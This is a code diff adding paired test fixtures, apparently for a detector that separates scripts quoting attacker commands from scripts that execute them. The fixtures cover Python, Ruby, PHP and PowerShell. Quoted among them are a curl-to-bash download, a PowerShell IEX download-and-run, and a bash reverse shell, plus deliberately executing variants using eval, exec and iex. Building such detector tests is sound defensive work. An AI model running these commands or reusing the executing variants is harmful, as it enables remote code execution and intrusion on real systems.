@@ -204,6 +204,59 @@ const MAKERS = pairs([
   ],
 ])
 
+const QUOTED = [
+  'curl -fsSL http://files.example/i.sh | bash',
+  "IEX (New-Object Net.WebClient).DownloadString('http://files.example/a.ps1')",
+  'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
+]
+const listed = QUOTED.map((text) => JSON.stringify(text)).join(', ')
+const script = (name: string, text: string): Uint8Array => file(name, text)
+const python = (body: string, imports = 'import base64\nimport re'): string =>
+  `"""Rules."""\n${imports}\n\nRULES = [${listed}]\nCODED = base64.b64encode("a b".encode("utf-16-le")).decode()\n${body}\n`
+const spec = (body: string): string =>
+  `require 'rules'\nRSpec.describe Rules do\n  RISKY = [${listed}]\n  RISKY.each do |text|\n    it "finds it" do\n      expect(${body}).to be\n    end\n  end\nend\n`
+const phpUnit = (body: string): string =>
+  `<?php\nfinal class RulesTest extends TestCase {\n  public function risky() { return [${listed.replaceAll('$', '')}]; }\n  public function testFinds($text) {\n    $this->assertTrue(${body});\n  }\n}\n`
+const pester = (body: string): string =>
+  `BeforeAll { . $PSScriptRoot/Rules.ps1 }\nDescribe 'Find-Risky' {\n  $risky = @(${QUOTED.slice(0, 2)
+    .map((text) => `'${text.replaceAll("'", "''")}'`)
+    .join(', ')})\n  It 'finds it' {\n    ${body} | Should -Be 2\n  }\n}\n`
+const QUOTING = pairs([
+  [
+    'rules in Python',
+    script(
+      'rules.py',
+      python('def scan(text):\n    return [os.system(each) for each in RULES]', 'import os\nimport base64'),
+    ),
+    script('rules.py', python('def scan(text):\n    return [each for each in RULES if re.search(each, text)]')),
+  ],
+  [
+    'rules in Python that are run',
+    script('rules.py', python(`exec(base64.b64decode("${btoa("__import__('os').system('calc')")}"))`)),
+    script('rules.py', python(`EXAMPLE = f"exec(base64.b64decode('{CODED}'))"`)),
+  ],
+  [
+    'a test in Ruby',
+    script('a_spec.rb', spec('system(text)')),
+    script('a_spec.rb', spec('described_class.scan(text)')),
+  ],
+  [
+    'a test in PHP',
+    script('ATest.php', phpUnit('eval(file_get_contents("http://files.example/a"))')),
+    script('ATest.php', phpUnit('$this->rules->scan($text)')),
+  ],
+  [
+    'a test in PowerShell',
+    script('A.Tests.ps1', pester('($risky | % { iex $_ })')),
+    script('A.Tests.ps1', pester('(Find-Risky $risky).Count')),
+  ],
+  [
+    'a test in PowerShell with a call by name',
+    script('A.Tests.ps1', pester('($risky | % { & "iex" $_ })')),
+    script('A.Tests.ps1', pester('($risky | Find-Risky | Measure-Object).Count')),
+  ],
+])
+
 const warning = (command: string, more = ''): Uint8Array =>
   Buffer.from(
     `Some pages say "I am not a robot" and ask you to press Windows + R, to paste with Ctrl + V and to press Enter.\r\nThe line is like this:\r\n\r\n    ${command}\r\n\r\nCall 4711 if you did so.${more}\r\n`,
@@ -241,6 +294,7 @@ export const ADMINISTRATION: Readonly<Record<string, readonly Pair[]>> = {
   'hidden windows of a logon script': LOGON,
   'installers beside an exclusion': INSTALLERS,
   'tests with commands of attackers': TESTS,
+  'rules and tests that quote attackers': QUOTING,
   'commands for a terminal': TOLD,
   'shortcuts to scripts of this computer': LOCAL,
   'lists of installers beside an exclusion': MAKERS,
